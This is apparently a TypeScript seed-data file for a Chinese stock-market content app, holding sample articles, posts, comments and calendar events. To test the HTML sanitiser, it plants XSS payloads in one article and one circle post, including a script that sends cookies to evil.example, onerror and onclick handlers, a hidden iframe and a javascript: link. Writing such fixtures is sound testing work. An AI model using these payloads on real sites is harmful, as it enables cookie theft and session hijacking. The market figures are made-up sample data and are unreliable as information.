import { addDays, chinaToday } from '@/lib/format/date';
import type { CalendarCategory, CirclePostType, ItemKind } from '@/lib/content/rules';
import type { Db } from '@/upstream/core/types';

/**
 * The content module's deterministic seed: id 1 exists for every content route, dates are
 * relative to the seed day (seedDay: the market date, never so late that a seeded time is still to
 * come). Every user-visible text passes the moderation rule (lib/moderation). Bodies are HTML as an editor writes it, with SPEC §3 tags
 * (<span data-type="stock|user|topic|link" …>) and — in article 1 and circle post 3 — the kind of
 * hostile markup a compromised editor account or a pasted page brings, to prove the sanitiser.
 * Authors are the live module's teachers (live_teachers ids 1–6; 1–4 licensed 投顾, 5–6 达人).
 */

export const DELETED_ARTICLE_ID = 3;

interface SeedItem {
  kind: ItemKind;
  id: number;
  type?: string;
  title: string;
  summary: string;
  cover?: string;
  body: string;
  daysAgo: number;
  time: string;
  reads: number;
  teacherId: number | null;
  topicId?: number;
  stocks?: string[];
  video?: { url: string; poster: string; durationSec: number };
  flash?: { text: string; importance: number };
  deleted?: boolean;
}

const stock = (code: string, name: string) => `<span data-type="stock" data-code="${code}">${name}</span>`;
const user = (id: number, name: string) => `<span data-type="user" data-id="${id}">@${name}</span>`;
const topic = (id: number, title: string) => `<span data-type="topic" data-id="${id}">#${title}#</span>`;
const link = (url: string, text: string) => `<span data-type="link" data-url="${url}">${text}</span>`;
const figure = (src: string, alt: string, width: number, height: number, caption: string) =>
  `<figure><img src="${src}" alt="${alt}" width="${width}" height="${height}"><figcaption>${caption}</figcaption></figure>`;

/**
 * What a pasted page or a hijacked editor account brings along; none of the markup may reach a reader.
 * The text inside it does reach the reader once the sanitiser has removed the markup, so it is the
 * article's own closing words, never spam (the moderation rule would refuse 点击领取内部消息).
 */
const HOSTILE = [
  '<script>document.location="https://evil.example/steal?c="+document.cookie</script>',
  '<img src="x" onerror="alert(\'xss\')">',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff">（全文完）</p>',
  '<iframe src="https://evil.example/ad" width="1" height="1"></iframe>',
  '<p><a href="javascript:alert(1)">欢迎在评论区交流你的看法。</a></p>',
].join('');

export const TOPICS = [
  {
    id: 1,
    title: '新能源车产业链',
    description: '从电池、整车到充电桩，跟踪新能源车产业链的景气度、价格战与出海进展。',
    cover: '/og/market.png',
    followers: 12_860,
  },
  {
    id: 2,
    title: '半导体国产替代',
    description: '设备、材料与先进制程的国产化进度，以及周期底部的库存与订单信号。',
    cover: '/og/market.png',
    followers: 9_420,
  },
  {
    id: 3,
    title: '高股息红利策略',
    description: '银行、运营商与公用事业的分红能力、股息率与估值，适合稳健型投资者学习。',
    cover: '/og/market.png',
    followers: 15_230,
  },
];

export const SEED_ITEMS: SeedItem[] = [
  {
    kind: 'article',
    id: 1,
    title: '四季度A股策略：盈利修复与估值切换',
    summary:
      '复盘三季度的盈利数据，梳理四季度的三条主线：消费龙头的估值修复、新能源车的出海、以及高股息资产的防御价值。',
    cover: '/og/market.png',
    daysAgo: 0,
    time: '08:30',
    reads: 18_632,
    teacherId: 1,
    topicId: 1,
    stocks: ['600519', '300750', '600036'],
    body: [
      '<p>三季度上市公司整体盈利增速由负转正，结构上呈现“上游放缓、中下游修复”的特点。本文从盈利、估值与资金三个角度，梳理四季度值得跟踪的方向。</p>',
      '<h2>一、消费龙头：估值回到历史中枢下方</h2>',
      `<p>以${stock('600519', '贵州茅台')}为代表的高端白酒，动销在中秋国庆后趋于平稳，批价企稳是估值修复的前提。${user(2, '陈思远')} 在上周的直播中也详细讲解了消费板块的库存周期。</p>`,
      '<h2>二、新能源车：从价格战走向出海</h2>',
      `<p>${stock('300750', '宁德时代')}的海外订单占比持续提升，${topic(1, '新能源车产业链')} 的景气度正在从国内渗透率驱动，转向海外市场份额驱动。</p>`,
      '<table><thead><tr><th scope="col">指标</th><th scope="col">三季度</th><th scope="col">同比</th></tr></thead><tbody><tr><td>新能源车销量（万辆）</td><td>412.6</td><td>+28.4%</td></tr><tr><td>动力电池装车量（GWh）</td><td>186.3</td><td>+31.2%</td></tr></tbody></table>',
      figure('/h5/live/poster.jpg', '新能源车产业链景气度示意图', 1280, 720, '图：新能源车产业链景气度（示意）'),
      '<h2>三、高股息：防御与配置兼顾</h2>',
      `<p>${stock('600036', '招商银行')}等高股息标的，在利率下行的环境中具备相对收益。可参考${link('/h5/tool/northbound-new', '北向资金页面')}观察外资对红利资产的配置变化，新股申购安排见${link('/h5/tool/ipo/calendar', '新股日历')}。</p>`,
      '<blockquote>风险提示：宏观经济复苏不及预期、海外需求波动、行业竞争加剧。</blockquote>',
      `<p>数据来源：<a href="https://www.sse.com.cn/market/stockdata/statistic/">上海证券交易所统计数据</a>。</p>`,
      HOSTILE,
    ].join(''),
  },
  {
    kind: 'article',
    id: 2,
    title: '半导体设备：订单回暖的三个信号',
    summary: '从合同负债、存货周转与招标数据三个维度，观察半导体设备企业的订单拐点。',
    cover: '/og/market.png',
    daysAgo: 2,
    time: '19:45',
    reads: 9_215,
    teacherId: 2,
    topicId: 2,
    stocks: ['688981'],
    body: [
      `<p>${topic(2, '半导体国产替代')} 的核心矛盾，是先进制程扩产节奏与设备国产化率的提升速度。</p>`,
      '<h2>信号一：合同负债连续两个季度增长</h2>',
      `<p>合同负债反映的是已签订单但尚未确认的收入。以${stock('688981', '中芯国际')}为代表的晶圆厂资本开支计划，是设备订单的先行指标。</p>`,
      '<h2>信号二：存货周转天数下降</h2><p>存货中“发出商品”占比下降，说明设备验收节奏加快。</p>',
      '<h2>信号三：招标数据回升</h2><p>公开招标平台的设备中标数量环比回升，其中刻蚀、薄膜沉积设备的国产中标率超过四成。</p>',
    ].join(''),
  },
  {
    kind: 'article',
    id: DELETED_ARTICLE_ID,
    title: '（已删除）旧版市场点评',
    summary: '本文已被作者删除。',
    daysAgo: 30,
    time: '09:00',
    reads: 120,
    teacherId: 3,
    body: '<p>已删除。</p>',
    deleted: true,
  },
  {
    kind: 'feed',
    id: 1,
    title: '银行板块午后拉升，红利资产再获资金青睐',
    summary: '午后银行板块集体走强，招商银行、平安银行涨幅居前，北向资金净买入银行股。',
    daysAgo: 0,
    time: '13:42',
    reads: 5_408,
    teacherId: 4,
    topicId: 3,
    stocks: ['600036', '000001'],
    body: `<p>午后银行板块集体走强，${stock('600036', '招商银行')}、${stock('000001', '平安银行')}涨幅居前。</p><p>从龙虎榜与北向资金数据看，近期配置型资金对高股息资产的偏好仍在延续，可结合${link('/h5/lhb/homePage', '龙虎榜')}观察短线资金动向。</p>`,
  },
  {
    kind: 'feed',
    id: 2,
    title: '盘前速览：外围市场与今日关注',
    summary: '隔夜外围市场涨跌互现，今日关注新股申购与重要数据发布。',
    daysAgo: 1,
    time: '08:05',
    reads: 3_117,
    teacherId: 1,
    stocks: [],
    body: `<p>隔夜外围市场涨跌互现。今日关注：新股申购（详见${link('/h5/tool/ipo/calendar', '新股日历')}）、以及晚间公布的重要经济数据（见${link('/h5/flash/calendar', '财经日历')}）。</p>`,
  },
  {
    kind: 'stock_feed',
    id: 1,
    title: '比亚迪：月销量再创新高，海外占比提升',
    summary: '比亚迪公布月度产销快报，新能源车销量同比增长，海外销量占比持续提升。',
    cover: '/og/market.png',
    daysAgo: 0,
    time: '10:15',
    reads: 7_836,
    teacherId: 2,
    topicId: 1,
    stocks: ['002594', '300750'],
    body: `<p>${stock('002594', '比亚迪')}公布月度产销快报：新能源车销量同比增长约 18%，其中海外销量占比提升至两成以上。</p><h2>观点</h2><p>销量数据验证了出海逻辑，但需关注单车利润在价格竞争下的变化。上游电池端可同时跟踪${stock('300750', '宁德时代')}的排产数据。</p>`,
  },
  {
    kind: 'stock_feed',
    id: 2,
    title: '五粮液：渠道库存回到合理区间',
    summary: '经销商调研显示渠道库存约两个月，批价企稳。',
    daysAgo: 3,
    time: '16:20',
    reads: 4_120,
    teacherId: 2,
    stocks: ['000858'],
    body: `<p>经销商调研显示，${stock('000858', '五粮液')}渠道库存约两个月，批价在中秋后企稳。</p>`,
  },
  {
    kind: 'video',
    id: 1,
    title: '量化择时入门：用均线与成交量判断趋势',
    summary: '十分钟讲清楚均线多头排列、量价配合与常见的假突破形态。',
    cover: '/live/poster.jpg',
    daysAgo: 1,
    time: '20:00',
    reads: 22_504,
    teacherId: 3,
    stocks: ['600519'],
    video: { url: '/live/test/index.m3u8', poster: '/live/poster.jpg', durationSec: 612 },
    body: `<p>本期视频讲解均线与成交量的配合用法，示例使用${stock('600519', '贵州茅台')}的日线数据。</p><ul><li>均线多头排列的含义</li><li>放量突破与缩量回踩</li><li>如何识别假突破</li></ul><p>更多直播课程见 ${user(3, '刘晓婷')} 的主页。</p>`,
  },
  {
    kind: 'column',
    id: 1,
    title: '新手必读：看懂财报的三张表',
    summary: '资产负债表、利润表、现金流量表分别回答什么问题？用一家虚构的公司讲清楚。',
    cover: '/og/app.png',
    daysAgo: 4,
    time: '12:00',
    reads: 31_877,
    teacherId: 5,
    body: '<p>很多新手看财报，第一眼就被密密麻麻的数字劝退。其实三张表各自只回答一个问题：</p><ol><li><strong>资产负债表</strong>：公司有什么、欠什么。</li><li><strong>利润表</strong>：一段时间里赚了多少。</li><li><strong>现金流量表</strong>：钱实际上从哪里来、到哪里去。</li></ol><h2>为什么现金流更重要</h2><p>利润可以“算”出来，现金却要实实在在地收回来。应收账款持续大于营业收入增速，往往是需要警惕的信号。</p><p><em>本专栏为投资者教育内容，不构成任何投资建议。</em></p>',
  },
  {
    kind: 'information',
    id: 1,
    type: 'news',
    title: '三部门发布促进消费若干措施',
    summary: '措施涉及以旧换新补贴、服务消费与消费金融，多项政策自下月起实施。',
    daysAgo: 0,
    time: '07:30',
    reads: 12_406,
    teacherId: null,
    stocks: ['600519', '000858'],
    body: `<p>三部门联合发布促进消费的若干措施，涉及以旧换新补贴、服务消费和消费金融等方面。</p><p>市场人士认为，措施有助于提振可选消费需求，食品饮料板块中${stock('600519', '贵州茅台')}、${stock('000858', '五粮液')}等龙头或受益于消费场景的恢复。</p>`,
  },
  {
    kind: 'information',
    id: 2,
    type: 'announcement',
    title: '公告解读：招商银行中期分红方案',
    summary: '拟每股派发现金红利，分红率保持在三成以上。',
    daysAgo: 1,
    time: '18:10',
    reads: 6_015,
    teacherId: 4,
    stocks: ['600036'],
    body: `<p>${stock('600036', '招商银行')}公告中期分红方案，分红率保持在三成以上。对高股息策略而言，分红的稳定性比单次股息率更重要。</p>`,
  },
  {
    kind: 'information',
    id: 3,
    type: 'research',
    title: '研报精选：动力电池行业深度',
    summary: '行业集中度继续提升，海外产能布局成为新的竞争维度。',
    daysAgo: 2,
    time: '09:20',
    reads: 4_872,
    teacherId: null,
    stocks: ['300750'],
    body: `<p>动力电池行业集中度继续提升，${stock('300750', '宁德时代')}的全球份额保持领先。海外产能布局成为新的竞争维度。</p>`,
  },
  {
    kind: 'hall',
    id: 1,
    type: 'lesson',
    title: '投资者教育第一课：认识风险与收益',
    summary: '为什么“保本高收益”一定是骗局？从风险溢价讲起。',
    cover: '/og/app.png',
    daysAgo: 6,
    time: '10:00',
    reads: 42_310,
    teacherId: 1,
    body: '<p>任何投资的预期收益，都是对所承担风险的补偿。承诺“保本、高收益”的产品，要么隐瞒了风险，要么本身就是诈骗。</p><h2>三个要点</h2><ol><li>收益与风险相伴，不存在无风险的高收益。</li><li>分散投资可以降低非系统性风险。</li><li>了解自己的风险承受能力，再选择产品。</li></ol>',
  },
  {
    kind: 'hall',
    id: 2,
    type: 'video',
    title: '视频课：K线的基本形态',
    summary: '阳线、阴线、十字星，以及它们在不同位置的含义。',
    cover: '/live/poster.jpg',
    daysAgo: 8,
    time: '20:00',
    reads: 18_002,
    teacherId: 6,
    video: { url: '/live/test/index.m3u8', poster: '/live/poster.jpg', durationSec: 845 },
    body: '<p>本课讲解 K 线的基本构成和常见形态，适合刚入门的投资者。</p>',
  },
  {
    kind: 'flash',
    id: 1,
    title: '快讯解读：央行开展逆回购操作，净投放流动性',
    summary: '央行公开市场净投放资金，资金面宽松预期升温，利好高股息与成长板块估值。',
    daysAgo: 0,
    time: '09:20',
    reads: 8_340,
    teacherId: 1,
    stocks: ['600036', '601318'],
    flash: { text: '央行今日开展逆回购操作，实现公开市场净投放，维护银行体系流动性合理充裕。', importance: 3 },
    body: `<p>净投放表明央行维持流动性合理充裕的态度。资金面宽松通常利好对利率敏感的资产：一是高股息的${stock('600036', '招商银行')}、${stock('601318', '中国平安')}等金融股，二是估值对贴现率敏感的成长股。</p><p>需要注意，单次操作不代表货币政策转向，仍需结合月中的 MLF 与月末的资金面观察。</p>`,
  },
  {
    kind: 'flash',
    id: 2,
    title: '快讯解读：新能源车月度销量公布',
    summary: '销量同比增长，渗透率再创新高。',
    daysAgo: 1,
    time: '16:05',
    reads: 3_905,
    teacherId: 2,
    stocks: ['002594'],
    flash: { text: '乘联会公布上月新能源乘用车零售数据，渗透率再创新高。', importance: 2 },
    body: `<p>渗透率持续提升，龙头${stock('002594', '比亚迪')}的份额保持稳定。</p>`,
  },
];

export interface SeedComment {
  kind: ItemKind | 'circle';
  targetId: number;
  nickname: string;
  content: string;
  minutesAgo: number;
  likes: number;
}

export const SEED_COMMENTS: SeedComment[] = [
  {
    kind: 'article',
    targetId: 1,
    nickname: '价值投资小王',
    content: '分析得很清楚，消费和红利的配置思路学习了。',
    minutesAgo: 50,
    likes: 36,
  },
  {
    kind: 'article',
    targetId: 1,
    nickname: '趋势交易老李',
    content: '新能源出海这部分能不能再展开讲讲？',
    minutesAgo: 35,
    likes: 12,
  },
  {
    kind: 'article',
    targetId: 1,
    nickname: '学习中的小白',
    content: '表格里的数据很直观，收藏了。',
    minutesAgo: 12,
    likes: 4,
  },
  {
    kind: 'video',
    targetId: 1,
    nickname: '量化研究员',
    content: '假突破那段讲得好，回看了两遍。',
    minutesAgo: 300,
    likes: 21,
  },
  { kind: 'feed', targetId: 1, nickname: '稳健派', content: '红利资产今年表现确实稳。', minutesAgo: 20, likes: 3 },
  { kind: 'circle', targetId: 1, nickname: '长线持有者', content: '同意，仓位控制最重要。', minutesAgo: 40, likes: 5 },
  { kind: 'circle', targetId: 1, nickname: '半导体观察员', content: '周末复盘打卡。', minutesAgo: 25, likes: 1 },
];

export interface SeedPost {
  id: number;
  type: CirclePostType;
  nickname: string;
  teacherId: number | null;
  body: string;
  images: { url: string; width: number; height: number; alt: string }[];
  stocks: string[];
  likes: number;
  minutesAgo: number;
}

export const SEED_POSTS: SeedPost[] = [
  {
    id: 1,
    type: 'post',
    nickname: '王立新',
    teacherId: 1,
    body: `<p>本周复盘：指数缩量震荡，${stock('600519', '贵州茅台')}等消费龙头企稳。下周关注重要数据发布，仓位控制仍是第一位。</p>`,
    images: [{ url: '/og/market.png', width: 1200, height: 630, alt: '本周市场复盘图' }],
    stocks: ['600519'],
    likes: 128,
    minutesAgo: 90,
  },
  {
    id: 2,
    type: 'question',
    nickname: '学习中的小白',
    teacherId: null,
    body: '<p>请问大家，北向资金的“净买入”和“成交净买额”有什么区别？</p>',
    images: [],
    stocks: [],
    likes: 9,
    minutesAgo: 150,
  },
  {
    id: 3,
    type: 'post',
    nickname: '半导体观察员',
    teacherId: null,
    body: `<p>设备订单有回暖迹象，持续跟踪${stock('688981', '中芯国际')}的资本开支。${topic(2, '半导体国产替代')}</p><img src="x" onerror="alert('circle')"><p onclick="alert(1)">转发请注明出处</p>`,
    images: [],
    stocks: ['688981'],
    likes: 33,
    minutesAgo: 240,
  },
  {
    id: 4,
    type: 'post',
    nickname: '财经小林',
    teacherId: 5,
    body: '<p>新手提醒：凡是承诺高收益的宣传都要警惕，投资前先做风险测评。</p>',
    images: [{ url: '/live/poster.jpg', width: 1280, height: 720, alt: '投资者教育海报' }],
    stocks: [],
    likes: 256,
    minutesAgo: 600,
  },
  {
    id: 5,
    type: 'question',
    nickname: '稳健派',
    teacherId: null,
    body: `<p>${stock('600036', '招商银行')}的分红率一般是多少？适合长期持有吗？</p>`,
    images: [],
    stocks: ['600036'],
    likes: 14,
    minutesAgo: 1_440,
  },
];

export interface SeedEvent {
  dayOffset: number;
  time: string | null;
  category: Exclude<CalendarCategory, 'ipo'>;
  title: string;
  detail: string;
  importance: number;
  stocks: string[];
}

/** Market events around the market date; IPO dates are added from the IPO data by the BFF. */
export const SEED_EVENTS: SeedEvent[] = [
  {
    dayOffset: -2,
    time: '09:30',
    category: 'data',
    title: '10月社会融资规模',
    detail: '央行公布社融与新增人民币贷款数据。',
    importance: 3,
    stocks: [],
  },
  {
    dayOffset: -1,
    time: '10:00',
    category: 'meeting',
    title: '新能源汽车产业发展论坛',
    detail: '产业链上下游企业参会，关注出海与固态电池进展。',
    importance: 2,
    stocks: ['002594', '300750'],
  },
  {
    dayOffset: 0,
    time: '09:15',
    category: 'data',
    title: '贷款市场报价利率（LPR）',
    detail: '1年期与5年期以上LPR报价公布。',
    importance: 3,
    stocks: [],
  },
  {
    dayOffset: 0,
    time: null,
    category: 'unlock',
    title: '限售股解禁：中芯国际',
    detail: '首发原股东限售股份上市流通。',
    importance: 2,
    stocks: ['688981'],
  },
  {
    dayOffset: 3,
    time: '14:00',
    category: 'meeting',
    title: '招商银行临时股东大会',
    detail: '审议中期利润分配方案。',
    importance: 1,
    stocks: ['600036'],
  },
  {
    dayOffset: 4,
    time: '09:30',
    category: 'data',
    title: '规模以上工业企业利润',
    detail: '统计局公布1-10月工业企业利润。',
    importance: 2,
    stocks: [],
  },
  {
    dayOffset: 5,
    time: null,
    category: 'unlock',
    title: '限售股解禁：宁德时代',
    detail: '定增限售股份上市流通。',
    importance: 2,
    stocks: ['300750'],
  },
  {
    dayOffset: 6,
    time: '09:00',
    category: 'meeting',
    title: '中央经济工作会议（预期）',
    detail: '关注明年经济工作部署与政策基调。',
    importance: 3,
    stocks: [],
  },
  {
    dayOffset: 10,
    time: '09:30',
    category: 'data',
    title: '11月官方制造业PMI',
    detail: '统计局公布制造业与非制造业PMI。',
    importance: 3,
    stocks: [],
  },
];

const at = (day: string, daysAgo: number, time: string) => `${addDays(day, -daysAgo)}T${time}:00+08:00`;

/** The seed's "now" is 22:00 (Asia/Shanghai) of its day: every seeded time is at or before it. */
const SEED_HOUR = 22;

/**
 * The day the seed is written on: the market date, or the day before the latest 22:00 that has
 * passed when that is earlier, so nothing seeded is dated after the moment it is first read (a
 * comment 12 minutes before 22:00 would read as the future at 10:00).
 */
export function seedDay(marketDay: string, now: number): string {
  const lastSeedHour = chinaToday(new Date(now - SEED_HOUR * 3600_000));
  return lastSeedHour < marketDay ? lastSeedHour : marketDay;
}

/** Minutes before the seed day's 22:00 (Asia/Shanghai): seeded comments and posts keep their order. */
function minutesBefore(day: string, minutes: number): string {
  const base = Date.parse(`${day}T${SEED_HOUR}:00:00+08:00`) - minutes * 60_000;
  const local = new Date(base + 8 * 3600_000).toISOString().slice(0, 19);
  return `${local}+08:00`;
}

export async function seedContent(db: Db, marketDay: string, now: number = Date.now()): Promise<void> {
  const today = seedDay(marketDay, now);
  const statements: { sql: string; args: (string | number | null)[] }[] = [];
  for (const t of TOPICS) {
    statements.push({
      sql: 'INSERT INTO content_topics (id, title, description, cover, base_followers) VALUES (?, ?, ?, ?, ?)',
      args: [t.id, t.title, t.description, t.cover, t.followers],
    });
  }
  for (const item of SEED_ITEMS) {
    statements.push({
      sql: `INSERT INTO content_items (kind, id, type, title, summary, cover, body_html, published_at, reads, teacher_id, topic_id, stocks, video, flash, deleted)
            VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)`,
      args: [
        item.kind,
        item.id,
        item.type ?? null,
        item.title,
        item.summary,
        item.cover ?? null,
        item.body,
        at(today, item.daysAgo, item.time),
        item.reads,
        item.teacherId,
        item.topicId ?? null,
        JSON.stringify(item.stocks ?? []),
        item.video ? JSON.stringify(item.video) : null,
        item.flash ? JSON.stringify(item.flash) : null,
        item.deleted ? 1 : 0,
      ],
    });
  }
  for (const post of SEED_POSTS) {
    statements.push({
      sql: 'INSERT INTO content_posts (id, type, user_id, nickname, teacher_id, body_html, images, stocks, base_likes, created_at) VALUES (?, ?, NULL, ?, ?, ?, ?, ?, ?, ?)',
      args: [
        post.id,
        post.type,
        post.nickname,
        post.teacherId,
        post.body,
        JSON.stringify(post.images),
        JSON.stringify(post.stocks),
        post.likes,
        minutesBefore(today, post.minutesAgo),
      ],
    });
  }
  for (const comment of SEED_COMMENTS) {
    statements.push({
      sql: 'INSERT INTO content_comments (target_kind, target_id, user_id, nickname, content, base_likes, created_at) VALUES (?, ?, NULL, ?, ?, ?, ?)',
      args: [
        comment.kind,
        comment.targetId,
        comment.nickname,
        comment.content,
        comment.likes,
        minutesBefore(today, comment.minutesAgo),
      ],
    });
  }
  SEED_EVENTS.forEach((event, index) => {
    statements.push({
      sql: 'INSERT INTO content_events (id, day_offset, time, category, title, detail, importance, stocks) VALUES (?, ?, ?, ?, ?, ?, ?, ?)',
      args: [
        index + 1,
        event.dayOffset,
        event.time,
        event.category,
        event.title,
        event.detail,
        event.importance,
        JSON.stringify(event.stocks),
      ],
    });
  });
  await db.batch(statements, 'write');
}
